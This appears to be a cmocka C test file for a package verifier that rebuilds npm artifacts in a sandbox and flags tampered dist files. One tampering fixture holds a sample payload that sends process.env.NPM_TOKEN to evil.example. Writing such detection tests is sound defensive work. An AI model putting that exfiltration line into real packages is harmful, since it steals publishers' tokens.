@@ -1,0 +1,626 @@
+/*
+ * Rebuild (verifier/rebuild.c, the rebuilt tree in diff/tree_diff.c): fixture repositories
+ * made by the test, whose build is a node script that writes dist/ from src/ and needs no
+ * third-party package, so everything runs offline. A clean one reproduces and passes; an
+ * artifact whose dist/ file has an extra line fails naming it; a build that writes the time is
+ * never a silent pass; failed, timed-out and skipped builds leave the files unverified with the
+ * reason. The comparison rules themselves are tested on in-memory trees first.
+ * The end-to-end cases skip without node and npm; the sandboxed ones without bubblewrap.
+ */
+#include "sg_test.h"
+
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "common/common.h"
+#include "diff/diff_int.h"
+#include "verifier/rebuild_int.h"
+
+#define SRC_JS "module.exports = function add(a, b) {\n  return a + b;\n};\n"
+#define BUILT_JS "// built from src/index.js\n" SRC_JS
+
+#define PJ_BUILD                                                                                   \
+    "{\n  \"name\": \"fixture-build\",\n  \"version\": \"1.0.0\",\n  \"main\": "                   \
+    "\"dist/index.js\",\n"                                                                         \
+    "  \"files\": [\"dist\"],\n  \"scripts\": {\"build\": \"node build.js\"}\n}\n"
+
+#define PJ_PREPACK                                                                                 \
+    "{\n  \"name\": \"fixture-build\",\n  \"version\": \"1.0.0\",\n  \"main\": "                   \
+    "\"dist/index.js\",\n"                                                                         \
+    "  \"files\": [\"dist\"],\n  \"scripts\": {\"prepack\": \"node build.js\"}\n}\n"
+
+#define BUILD_HEAD                                                                                 \
+    "const fs = require('fs');\n"                                                                  \
+    "fs.mkdirSync('dist', {recursive: true});\n"                                                   \
+    "const src = fs.readFileSync('src/index.js', 'utf8');\n"
+
+static const char build_clean[] =
+    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built from src/index.js\\n' + src);\n";
+static const char build_iso_time[] =
+    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built at ' + new Date().toISOString() + "
+               "'\\n' + src);\n";
+static const char build_date_string[] =
+    BUILD_HEAD "fs.writeFileSync('dist/index.js', '// built on ' + new Date().toString() + "
+               "'\\n' + src);\n";
+static const char build_fails[] = "console.error('the compiler exploded'); process.exit(3);\n";
+static const char build_hangs[] = "for (;;) {}\n";
+
+typedef struct fx {
+    sg_ctx *ctx;        /* context */
+    int have_node;      /* node and npm on PATH */
+    char bwrap[4096];   /* bubblewrap when it can make a sandbox here, else "" */
+    char *cache;        /* the cache folder (logs) */
+    sg_rebuild_opts ro; /* rebuild options */
+    sg_report *report;  /* the last report */
+} fx;
+
+static const char *search_path(void)
+{
+    const char *p = getenv("PATH");
+    return p && *p ? p : "/usr/local/bin:/usr/bin:/bin";
+}
+
+static int setup(void **state)
+{
+    fx *f = calloc(1, sizeof(*f));
+    sg_buf b = SG_BUF_INIT;
+    assert_non_null(f);
+    assert_int_equal(sg_ctx_new(&f->ctx), 0);
+    f->have_node = sgt_have_program("node") && sgt_have_program("npm");
+    if (sg_sandbox__which(&b, f->ctx, "bwrap", search_path()) == 0 &&
+        sg_sandbox__probe(f->ctx, b.ptr) == 0)
+        snprintf(f->bwrap, sizeof(f->bwrap), "%s", b.ptr);
+    sg_error_clear(f->ctx);
+    sg_buf_dispose(&b);
+    f->cache = sgt_tmpdir();
+    f->ro = (sg_rebuild_opts)SG_REBUILD_OPTS_INIT;
+    f->ro.mode = SG_REBUILD_AUTO;
+    f->ro.search_path = search_path();
+    f->ro.bwrap = f->bwrap[0] ? f->bwrap : NULL;
+    f->ro.cache_dir = f->cache;
+    f->ro.timeout_seconds = 120;
+    *state = f;
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    fx *f = *state;
+    sg_report_free(f->report);
+    sg_ctx_free(f->ctx);
+    sgt_rm_rf(f->cache);
+    free(f);
+    return 0;
+}
+
+#define NEED_NODE(f)                                                                               \
+    do {                                                                                           \
+        if (!(f)->have_node)                                                                       \
+            skip();                                                                                \
+    } while (0)
+
+#define NEED_SANDBOX(f)                                                                            \
+    do {                                                                                           \
+        if (!(f)->have_node || !(f)->bwrap[0])                                                     \
+            skip();                                                                                \
+    } while (0)
+
+/* The finding of kind at path, or NULL. */
+static const sg_finding *finding_at(const sg_report *r, const char *kind, const char *path)
+{
+    size_t i;
+    for (i = 0; i < sg_report_finding_count(r); i++) {
+        const sg_finding *x = sg_report_finding(r, i);
+        if (strcmp(x->kind, kind) == 0 && x->path && strcmp(x->path, path) == 0)
+            return x;
+    }
+    return NULL;
+}
+
+static int has_normalization(const sg_report *r, const char *name)
+{
+    size_t i;
+    for (i = 0; i < sg_report_normalization_count(r); i++)
+        if (strcmp(sg_report_normalization(r, i), name) == 0)
+            return 1;
+    return 0;
+}
+
+static void print_report(const sg_report *r)
+{
+    sg_buf out = SG_BUF_INIT;
+    sg_ctx *ctx = NULL;
+    assert_int_equal(sg_ctx_new(&ctx), 0);
+    assert_int_equal(sg_report_write_text(&out, ctx, r, SG_TEXT_VERBOSE), 0);
+    printf("%s", out.ptr);
+    sg_buf_dispose(&out);
+    sg_ctx_free(ctx);
+}
+
+/* ---------------------------------------------------------------- the comparison rules */
+
+static sg_report *diff_with_rebuild(const sgt_file *src, size_t ns, const sgt_file *art, size_t na,
+                                    const sgt_file *reb, size_t nr)
+{
+    sg_tree *s = sgt_tree(src, ns), *a = sgt_tree(art, na), *r = reb ? sgt_tree(reb, nr) : NULL;
+    sg_diff_opts o = SG_DIFF_OPTS_INIT;
+    sg_report *report = NULL;
+    sg_ctx *ctx = NULL;
+    assert_int_equal(sg_ctx_new(&ctx), 0);
+    assert_int_equal(sg_report_new(&report, ctx), 0);
+    o.rebuilt = r;
+    assert_int_equal(sg_diff_trees(report, ctx, s, a, &o), 0);
+    sg_report_decide(report, SG_SEV_HIGH);
+    sg_tree_free(s);
+    sg_tree_free(a);
+    sg_tree_free(r);
+    sg_ctx_free(ctx);
+    return report;
+}
+
+#define PJ_MIN "{\"name\":\"x\",\"version\":\"1.0.0\"}\n"
+
+static void test_rebuild__compare_same_bytes_counts_as_rebuilt(void **state)
+{
+    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
+    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
+    sg_report *r = diff_with_rebuild(src, 1, art, 2, art, 2);
+    (void)state;
+    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
+    assert_null(finding_at(r, "file-added", "dist/index.js"));
+    assert_int_equal(sg_report_verdict(r), SG_VERDICT_PASS);
+    sg_report_free(r);
+}
+
+static void test_rebuild__compare_appended_line_fails_naming_the_file(void **state)
+{
+    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
+    const sgt_file art[] = {
+        {"package.json", PJ_MIN, 0, 0},
+        {"dist/index.js", BUILT_JS "require('child_process').exec('x');\n", 0, 0}};
+    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
+    sg_report *r = diff_with_rebuild(src, 1, art, 2, reb, 2);
+    const sg_finding *f = finding_at(r, "file-modified", "dist/index.js");
+    (void)state;
+    assert_non_null(f);
+    assert_int_equal(f->severity, SG_SEV_HIGH);
+    assert_non_null(strstr(f->detail, "1 line appended"));
+    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 0);
+    assert_int_equal(sg_report_verdict(r), SG_VERDICT_FAIL);
+    sg_report_free(r);
+}
+
+static void test_rebuild__compare_timestamp_is_volatile_and_low(void **state)
+{
+    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
+    const sgt_file art[] = {
+        {"package.json", PJ_MIN, 0, 0},
+        {"dist/index.js", "/* built 2024-01-02T03:04:05.678Z, 1704164645678 */\n" SRC_JS, 0, 0}};
+    const sgt_file reb[] = {
+        {"package.json", PJ_MIN, 0, 0},
+        {"dist/index.js", "/* built 2026-11-28T10:20:30.456Z, 1795861230456 */\n" SRC_JS, 0, 0}};
+    sg_report *r = diff_with_rebuild(src, 1, art, 2, reb, 2);
+    const sg_finding *f = finding_at(r, "file-modified", "dist/index.js");
+    (void)state;
+    assert_non_null(f);
+    assert_int_equal(f->severity, SG_SEV_LOW);
+    assert_non_null(strstr(f->detail, "volatile tokens"));
+    assert_true(has_normalization(r, "volatile-tokens"));
+    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
+    sg_report_free(r);
+}
+
+static sg_rebuilt_outcome cmp(const char *a, const char *b)
+{
+    sg_rebuilt_cmp c;
+    sg_diff__rebuilt_compare(&c, a, strlen(a), b, strlen(b));
+    return c.outcome;
+}
+
+static void test_rebuild__compare_volatile_tokens_are_narrow(void **state)
+{
+    (void)state;
+    /* volatile: numbers of 4+ digits, hex hashes with a digit, ISO dates and times */
+    assert_int_equal(cmp("v = 1700000000000;\n", "v = 1795861230456;\n"), SG_REBUILT_VOLATILE);
+    assert_int_equal(cmp("rev 3f2a9c1d7\n", "rev 9b8e7d6c5\n"), SG_REBUILT_VOLATILE);
+    assert_int_equal(cmp("at 2024-01-02\n", "at 2026-11-28\n"), SG_REBUILT_VOLATILE);
+    assert_int_equal(cmp("at 10:20:30 UTC\n", "at 23:59:01 UTC\n"), SG_REBUILT_VOLATILE);
+    assert_int_equal(cmp("t=2024-01-02 03:04:05+01:00;\n", "t=2026-11-28 10:20:30+00:00;\n"),
+                     SG_REBUILT_VOLATILE);
+    assert_int_equal(cmp("same\n", "same\n"), SG_REBUILT_SAME);
+    /* not volatile: short numbers, hex words without digits, identifiers, lengths, words */
+    assert_int_equal(cmp("a[0]\n", "a[1]\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("var cafebabe = 1;\n", "var deadbeef = 1;\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("x1234 = 1;\n", "x9999 = 1;\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("n = 12345;\n", "n = 1234;\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("on Mon Jan 01 2024\n", "on Sat Nov 28 2026\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("Ab12Cd34Ef\n", "Ab12Cd34Ff\n"), SG_REBUILT_DIFFERENT); /* mixed case */
+    /* lines added, removed, reordered, or only a final newline */
+    assert_int_equal(cmp("a\nb\n", "a\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("a\n", "a\nb\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("b\na\n", "a\nb\n"), SG_REBUILT_DIFFERENT);
+    assert_int_equal(cmp("a\n", "a"), SG_REBUILT_DIFFERENT);
+    /* binary content is compared exactly */
+    {
+        sg_rebuilt_cmp c;
+        sg_diff__rebuilt_compare(&c, "x\0 1234", 7, "x\0 5678", 7);
+        assert_int_equal(c.outcome, SG_REBUILT_DIFFERENT);
+    }
+}
+
+static void test_rebuild__compare_reports_where_lines_differ(void **state)
+{
+    sg_rebuilt_cmp c;
+    const char *reb = "line1\nline2\n", *art = "line1\nline2\nevil();\nmore();\n";
+    (void)state;
+    sg_diff__rebuilt_compare(&c, art, strlen(art), reb, strlen(reb));
+    assert_int_equal(c.outcome, SG_REBUILT_DIFFERENT);
+    assert_int_equal(c.appended, 2);
+    assert_int_equal(c.first_line, 3);
+    /* a minified file without a final newline, with a payload appended after it */
+    sg_diff__rebuilt_compare(&c, "a();\nb();", 9, "a();", 4);
+    assert_int_equal(c.appended, 1);
+    sg_diff__rebuilt_compare(&c, "x\ny\nz\n", 6, "x\nY\nz\n", 6);
+    assert_int_equal(c.first_line, 2);
+    assert_int_equal(c.lines_changed, 1);
+}
+
+static void test_rebuild__compare_file_the_rebuild_lacks_is_not_explained(void **state)
+{
+    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}};
+    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0},
+                            {"dist/index.js", BUILT_JS, 0, 0},
+                            {"dist/extra.js", "evil();\n", 0, 0}};
+    const sgt_file reb[] = {{"package.json", PJ_MIN, 0, 0}, {"dist/index.js", BUILT_JS, 0, 0}};
+    sg_report *r = diff_with_rebuild(src, 1, art, 3, reb, 2);
+    (void)state;
+    assert_non_null(finding_at(r, "file-added", "dist/extra.js"));
+    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
+    sg_report_free(r);
+}
+
+static void test_rebuild__compare_source_file_rewritten_by_the_build(void **state)
+{
+    /* prepack stamps the version into a committed file: the rebuild explains it */
+    const sgt_file src[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/v.js", "v = 'DEV';\n", 0, 0}};
+    const sgt_file art[] = {{"package.json", PJ_MIN, 0, 0}, {"lib/v.js", "v = '1.0.0';\n", 0, 0}};
+    sg_report *r = diff_with_rebuild(src, 2, art, 2, art, 2);
+    (void)state;
+    assert_null(finding_at(r, "file-modified", "lib/v.js"));
+    assert_int_equal(sg_report_count(r, SG_COUNT_FILES_REBUILT), 1);
+    sg_report_free(r);
+}
+
+static void test_rebuild__materialize_writes_files_links_and_modes(void **state)
+{
+    fx *f = *state;
+    const sgt_file files[] = {{"a.txt", "A", 0, 0},
+                              {"bin/run.sh", "#!/bin/sh\n", 0, 0755},
+                              {"deep/er/x.js", "x", 0, 0},
+                              {"link", "a.txt", 0, 0120000}};
+    sg_tree *t = sgt_tree(files, 4);
+    char *dir = sgt_tmpdir(), p[4200], target[64];
+    struct stat st;
+    ssize_t n;
+
+    assert_int_equal(sg_rebuild__materialize(f->ctx, t, dir), 0);
+    snprintf(p, sizeof(p), "%s/bin/run.sh", dir);
+    assert_int_equal(stat(p, &st), 0);
+    assert_true(st.st_mode & 0100);
+    snprintf(p, sizeof(p), "%s/deep/er/x.js", dir);
+    assert_int_equal(stat(p, &st), 0);
+    assert_int_equal(st.st_size, 1);
+    snprintf(p, sizeof(p), "%s/link", dir);
+    n = readlink(p, target, sizeof(target) - 1);
+    assert_int_equal(n, 5);
+    target[n] = '\0';
+    assert_string_equal(target, "a.txt");
+    sg_tree_free(t);
+}
+
+/* ---------------------------------------------------------------- end to end */
+
+/* Commit the fixture (its build script given) and pack an artifact with this dist file. */
+static void make_fixture(char *repo, char *tgz, size_t size, const char *pj, const char *build_js,
+                         const char *dist)
+{
+    char *dir = sgt_tmpdir();
+    const sgt_file files[] = {{"package.json", pj, 0, 0},
+                              {"build.js", build_js, 0, 0},
+                              {"src/index.js", SRC_JS, 0, 0},
+                              {".gitignore", "dist\nnode_modules\n", 0, 0}};
+    const sgt_tar_entry entries[] = {{"package/package.json", pj, 0, 0644, '0', NULL},
+                                     {"package/dist/index.js", dist, 0, 0644, '0', NULL}};
+    snprintf(repo, size, "%s/repo", dir);
+    snprintf(tgz, size, "%s/fixture-build-1.0.0.tgz", dir);
+    sgt_git_init(repo, 0);
+    sgt_git_commit(NULL, repo, NULL, files, 4, "fixture", 0);
+    sgt_tar_write(tgz, entries, 2);
+}
+
+/* Verify in local mode with the fixture's rebuild options. */
+static int verify(fx *f, const char *pj, const char *build_js, const char *dist)
+{
+    char repo[4096], tgz[4096];
+    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
+    int error;
+
+    make_fixture(repo, tgz, sizeof(repo), pj, build_js, dist);
+    o.tarball_path = tgz;
+    o.source = repo;
+    o.rebuild = &f->ro;
+    sg_report_free(f->report);
+    f->report = NULL;
+    error = sg_verify_local(&f->report, f->ctx, &o);
+    if (error == 0) {
+        const char *st = sg_report_get(f->report, SG_REPORT_REBUILD_STATUS);
+        const char *log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
+        print_report(f->report);
+        if (st && strcmp(st, "failed") == 0 && log && getenv("SG_TEST_VERBOSE")) {
+            char *text = sgt_read_file(log, NULL);
+            printf("---- %s\n%s----\n", log, text);
+            free(text);
+        }
+    } else
+        printf("# error: %s\n", sg_error_message(f->ctx));
+    return error;
+}
+
+static void assert_log_kept(fx *f)
+{
+    const char *log = sg_report_get(f->report, SG_REPORT_REBUILD_LOG);
+    struct stat st;
+    assert_non_null(log);
+    assert_int_equal(strncmp(log, f->cache, strlen(f->cache)), 0);
+    assert_int_equal(stat(log, &st), 0);
+    assert_true(st.st_size > 0);
+}
+
+static void test_rebuild__clean_build_reproduces_and_passes(void **state)
+{
+    fx *f = *state;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
+    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "reproduced");
+    assert_null(finding_at(f->report, "file-unverified", "dist/index.js"));
+    assert_true(sg_report_list_count(f->report, SG_LIST_REBUILD) >= 4);
+    assert_log_kept(f);
+}
+
+static void test_rebuild__extra_line_in_dist_fails_naming_the_file(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_BUILD, build_clean,
+                            BUILT_JS "require('https').get('https://evil.example/?' + "
+                                     "process.env.NPM_TOKEN);\n"),
+                     0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_FAIL);
+    x = finding_at(f->report, "file-modified", "dist/index.js");
+    assert_non_null(x);
+    assert_int_equal(x->severity, SG_SEV_HIGH);
+    assert_non_null(strstr(x->detail, "appended"));
+    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "not-reproduced");
+}
+
+static void test_rebuild__iso_build_time_is_volatile_never_silent(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_SANDBOX(f);
+    assert_int_equal(
+        verify(f, PJ_BUILD, build_iso_time, "// built at 2024-01-02T03:04:05.678Z\n" SRC_JS), 0);
+    x = finding_at(f->report, "file-modified", "dist/index.js");
+    assert_non_null(x);
+    assert_int_equal(x->severity, SG_SEV_LOW);
+    assert_true(has_normalization(f->report, "volatile-tokens"));
+}
+
+static void test_rebuild__date_string_build_time_is_not_reproduced(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_BUILD, build_date_string,
+                            "// built on Mon Jan 01 2024 00:00:00 GMT+0000 (Coordinated Universal "
+                            "Time)\n" SRC_JS),
+                     0);
+    x = finding_at(f->report, "file-modified", "dist/index.js");
+    assert_non_null(x);
+    assert_int_equal(x->severity, SG_SEV_HIGH);
+    assert_int_not_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+}
+
+static void test_rebuild__build_error_leaves_files_unverified_with_the_reason(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_BUILD, build_fails, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
+    x = finding_at(f->report, "file-unverified", "dist/index.js");
+    assert_non_null(x);
+    assert_non_null(strstr(x->detail, "the rebuild failed: build error (exit status 3)"));
+    assert_non_null(strstr(x->detail, "the compiler exploded"));
+    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "failed");
+    assert_log_kept(f);
+}
+
+static void test_rebuild__time_limit_leaves_files_unverified(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_SANDBOX(f);
+    f->ro.timeout_seconds = 3;
+    assert_int_equal(verify(f, PJ_BUILD, build_hangs, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
+    x = finding_at(f->report, "file-unverified", "dist/index.js");
+    assert_non_null(x);
+    assert_non_null(strstr(x->detail, "time limit of 3 s"));
+}
+
+static void test_rebuild__prepack_script_builds_through_the_pack_command(void **state)
+{
+    fx *f = *state;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_PREPACK, build_clean, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
+}
+
+static void test_rebuild__without_a_sandbox_always_refuses_and_auto_skips(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    NEED_NODE(f);
+    f->ro.bwrap = "/nonexistent/bwrap";
+    f->ro.mode = SG_REBUILD_ALWAYS;
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), SG_EUNSUPPORTED);
+    assert_non_null(strstr(sg_error_message(f->ctx), "--unsafe-no-sandbox"));
+    sg_error_clear(f->ctx);
+    f->ro.mode = SG_REBUILD_AUTO;
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_INCONCLUSIVE);
+    x = finding_at(f->report, "file-unverified", "dist/index.js");
+    assert_non_null(x);
+    assert_non_null(strstr(x->detail, "the sandbox cannot run here"));
+    assert_string_equal(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS), "skipped");
+}
+
+static void test_rebuild__unsafe_mode_builds_without_bubblewrap(void **state)
+{
+    fx *f = *state;
+    size_t i;
+    int named = 0;
+    NEED_NODE(f);
+    f->ro.bwrap = "/nonexistent/bwrap";
+    f->ro.allow_unsafe_no_sandbox = 1;
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+    for (i = 0; i < sg_report_list_count(f->report, SG_LIST_REBUILD); i++)
+        named |= strstr(sg_report_list_get(f->report, SG_LIST_REBUILD, i), "NONE") != NULL;
+    assert_true(named);
+}
+
+static void test_rebuild__never_leaves_generated_files_unverified(void **state)
+{
+    fx *f = *state;
+    const sg_finding *x;
+    f->ro.mode = SG_REBUILD_NEVER;
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
+    x = finding_at(f->report, "file-unverified", "dist/index.js");
+    assert_non_null(x);
+    assert_non_null(strstr(x->detail, "not rebuilt"));
+    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS));
+    assert_int_equal(sg_report_list_count(f->report, SG_LIST_REBUILD), 0);
+}
+
+static void test_rebuild__auto_does_not_rebuild_when_git_explains_everything(void **state)
+{
+    fx *f = *state;
+    char *dir = sgt_tmpdir(), repo[4200], tgz[4200];
+    const sgt_file files[] = {{"package.json", PJ_BUILD, 0, 0},
+                              {"dist/index.js", BUILT_JS, 0, 0},
+                              {"build.js", build_fails, 0, 0}};
+    const sgt_tar_entry entries[] = {{"package/package.json", PJ_BUILD, 0, 0644, '0', NULL},
+                                     {"package/dist/index.js", BUILT_JS, 0, 0644, '0', NULL}};
+    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
+
+    snprintf(repo, sizeof(repo), "%s/repo", dir);
+    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
+    sgt_git_init(repo, 0);
+    sgt_git_commit(NULL, repo, NULL, files, 3, "committed dist", 0);
+    sgt_tar_write(tgz, entries, 2);
+    o.tarball_path = tgz;
+    o.source = repo;
+    o.rebuild = &f->ro;
+    assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+    assert_null(sg_report_get(f->report, SG_REPORT_REBUILD_STATUS));
+}
+
+static void test_rebuild__the_copy_has_a_git_head_at_the_commit(void **state)
+{
+    static const char build_git[] =
+        BUILD_HEAD "const git = (a) => require('child_process').execSync('git ' + a).toString()"
+                   ".trim();\n"
+                   "fs.writeFileSync('dist/index.js', '// ' + git('rev-parse HEAD') + ' ' + "
+                   "git('describe --tags') + ' ' + git('ls-files src') + '\\n' + src);\n";
+    fx *f = *state;
+    char *dir = sgt_tmpdir(), repo[4200], tgz[4200], commit[41], dist[512];
+    const sgt_file files[] = {{"package.json", PJ_BUILD, 0, 0},
+                              {"build.js", build_git, 0, 0},
+                              {"src/index.js", SRC_JS, 0, 0},
+                              {".gitignore", "dist\n", 0, 0}};
+    sgt_tar_entry entries[] = {{"package/package.json", PJ_BUILD, 0, 0644, '0', NULL},
+                               {"package/dist/index.js", dist, 0, 0644, '0', NULL}};
+    sg_verify_opts o = SG_VERIFY_OPTS_INIT;
+
+    NEED_SANDBOX(f);
+    if (!sgt_have_program("git"))
+        skip();
+    snprintf(repo, sizeof(repo), "%s/repo", dir);
+    snprintf(tgz, sizeof(tgz), "%s/a.tgz", dir);
+    sgt_git_init(repo, 0);
+    sgt_git_commit(commit, repo, NULL, files, 4, "stamped", 0);
+    sgt_git_tag(repo, "v1.0.0", commit, 1);
+    snprintf(dist, sizeof(dist), "// %s v1.0.0 src/index.js\n%s", commit, SRC_JS);
+    sgt_tar_write(tgz, entries, 2);
+    o.tarball_path = tgz;
+    o.source = repo;
+    o.ref = "v1.0.0";
+    o.rebuild = &f->ro;
+    assert_int_equal(sg_verify_local(&f->report, f->ctx, &o), 0);
+    print_report(f->report);
+    assert_int_equal(sg_report_verdict(f->report), SG_VERDICT_PASS);
+    assert_int_equal(sg_report_count(f->report, SG_COUNT_FILES_REBUILT), 1);
+}
+
+static void test_rebuild__report_json_carries_the_rebuild(void **state)
+{
+    fx *f = *state;
+    sg_buf json = SG_BUF_INIT;
+    NEED_SANDBOX(f);
+    assert_int_equal(verify(f, PJ_BUILD, build_clean, BUILT_JS), 0);
+    assert_int_equal(sg_report_write_json(&json, f->ctx, f->report), 0);
+    assert_non_null(strstr(json.ptr, "\"rebuild\": {\"status\": \"reproduced\""));
+    assert_non_null(strstr(json.ptr, "\"steps\": [\"package manager: npm"));
+    assert_non_null(strstr(json.ptr, "\"files_rebuilt\": 1"));
+    sg_buf_dispose(&json);
+}
+
+int main(void)
+{
+#define T(name) cmocka_unit_test_setup_teardown(name, setup, teardown)
+    const struct CMUnitTest tests[] = {
+        T(test_rebuild__compare_same_bytes_counts_as_rebuilt),
+        T(test_rebuild__compare_appended_line_fails_naming_the_file),
+        T(test_rebuild__compare_timestamp_is_volatile_and_low),
+        T(test_rebuild__compare_volatile_tokens_are_narrow),
+        T(test_rebuild__compare_reports_where_lines_differ),
+        T(test_rebuild__compare_file_the_rebuild_lacks_is_not_explained),
+        T(test_rebuild__compare_source_file_rewritten_by_the_build),
+        T(test_rebuild__materialize_writes_files_links_and_modes),
+        T(test_rebuild__clean_build_reproduces_and_passes),
+        T(test_rebuild__extra_line_in_dist_fails_naming_the_file),
+        T(test_rebuild__iso_build_time_is_volatile_never_silent),
+        T(test_rebuild__date_string_build_time_is_not_reproduced),
+        T(test_rebuild__build_error_leaves_files_unverified_with_the_reason),
+        T(test_rebuild__time_limit_leaves_files_unverified),
+        T(test_rebuild__prepack_script_builds_through_the_pack_command),
+        T(test_rebuild__without_a_sandbox_always_refuses_and_auto_skips),
+        T(test_rebuild__unsafe_mode_builds_without_bubblewrap),
+        T(test_rebuild__never_leaves_generated_files_unverified),
+        T(test_rebuild__auto_does_not_rebuild_when_git_explains_everything),
+        T(test_rebuild__the_copy_has_a_git_head_at_the_commit),
+        T(test_rebuild__report_json_carries_the_rebuild),
+    };
+#undef T
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
